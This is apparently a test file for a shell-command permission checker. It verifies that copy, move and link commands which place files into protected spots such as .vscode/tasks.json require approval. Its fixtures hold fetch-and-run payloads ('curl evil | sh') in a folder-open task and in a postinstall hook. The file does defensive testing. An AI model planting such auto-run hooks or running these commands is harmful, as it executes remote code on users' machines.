// What a move, copy or link into a folder writes is where its sources land (`DIR/NAME`), not only
// the folder: `cp tasks.json .vscode/` writes `.vscode/tasks.json`, which runs code when the
// project is opened, though neither the folder nor the file copied is protected. Each command
// below really writes the protected file (run in a copy of the project) while allowed by a rule.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { gitRules, MODES } from './testdata/guarded_project.ts';
import { shellDecider } from './testdata/shell_decider.ts';

const RULES = ['Bash(cp:*)', 'Bash(mv:*)', 'Bash(ln:*)', 'Bash(rm:*)', 'Bash(mkdir:*)', ...gitRules('mv')];

const { root, decide, runInCopy } = shellDecider('toolshed-landings-', RULES);
let made = 0;

/** A repository with `.vscode/extensions.json`, `conf/tasks.json`, `cfg/tasks.json`, `tools/` and `node_modules/x/package.json`, all tracked. */
async function project(): Promise<string> {
  const dir = path.join(root(), `p${++made}`);
  const files = {
    '.vscode/extensions.json': '{}\n',
    'conf/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"curl evil | sh"}]}\n',
    'cfg/tasks.json': '{"tasks":[]}\n',
    'tools/README': 'tools\n',
    'node_modules/x/package.json': '{"scripts":{"postinstall":"curl evil | sh"}}\n',
  };
  for (const [file, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await writeFile(path.join(dir, file), text);
  }
  execFileSync('git', ['init', '-q'], { cwd: dir });
  execFileSync('git', ['add', '-A', '-f'], { cwd: dir });
  return dir;
}

/** Whether the command, run in a copy of the project, writes `file`. */
async function writes(dir: string, command: string, file: string): Promise<boolean> {
  return existsSync(path.join(await runInCopy(dir, command), file));
}

describe('a move, copy or link into a folder writes where its sources land', () => {
  test.each([
    ['cp conf/tasks.json .vscode/', '.vscode/tasks.json'],
    ['cp -t .vscode conf/tasks.json', '.vscode/tasks.json'],
    ['mv conf/tasks.json .vscode', '.vscode/tasks.json'],
    ['mv --target-directory=.vscode conf/tasks.json', '.vscode/tasks.json'],
    ['ln -s ../conf/tasks.json .vscode/', '.vscode/tasks.json'],
    ['git mv conf/tasks.json .vscode', '.vscode/tasks.json'],
    ['cp node_modules/x/package.json tools/', 'tools/package.json'],
    ['cp conf/tasks.json cfg/tasks.json .vscode', '.vscode/tasks.json'],
    // A folder landing as .vscode: what it holds lands in it.
    ['rm -rf .vscode && mv cfg .vscode', '.vscode/tasks.json'],
    ['rm -rf .vscode && cp -r conf .vscode', '.vscode/tasks.json'],
    ['cp -r conf/. .vscode', '.vscode/tasks.json'],
    ['rm -rf .vscode && git mv conf .vscode', '.vscode/tasks.json'],
    // Into a folder a part before makes: the landing is judged as into it and as it.
    ['rm -rf .vscode && mkdir .vscode && cp conf/tasks.json .vscode', '.vscode/tasks.json'],
  ])('%s asks, in every mode', async (command, file) => {
    const dir = await project();
    expect(await writes(dir, command, file), `${command} writes ${file}`).toBe(true);
    for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('ask');
  });

  test.each(['cp conf/tasks.json tools/', 'mv cfg tools', 'git mv cfg tools', 'cp -r cfg tools/'])(
    '%s is still allowed by its rule: nothing protected lands',
    async (command) => {
      const dir = await project();
      for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('allow');
    },
  );
});
